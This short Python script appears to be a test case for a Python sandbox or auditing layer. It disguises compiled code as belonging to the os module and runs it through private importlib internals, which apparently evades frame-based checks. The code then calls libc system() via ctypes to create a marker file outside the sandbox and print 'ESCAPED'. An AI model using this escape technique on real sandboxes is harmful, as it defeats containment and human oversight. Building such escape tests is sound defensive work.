# The import system's own functions, called with made-up data: code marked as a module's.
# says: ctypes
import sys
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(1)
call = lambda function, *arguments, **keywords: pool.submit(function, *arguments, **keywords).result()
builtin = vars(sys.modules["builtins"])

import ctypes, os
external, bootstrap = sys.modules["_frozen_importlib_external"], sys.modules["_frozen_importlib"]
library = os.__file__
text = "import ctypes; ctypes.CDLL(None).system(b'touch %s/evil'); print('ESCAPED')" % outside
code = call(builtin["compile"], text, library, "exec")
external.SourceFileLoader("os", library).get_data(library)
bootstrap._call_with_frames_removed(builtin["exec"], code, {"__builtins__": builtin})
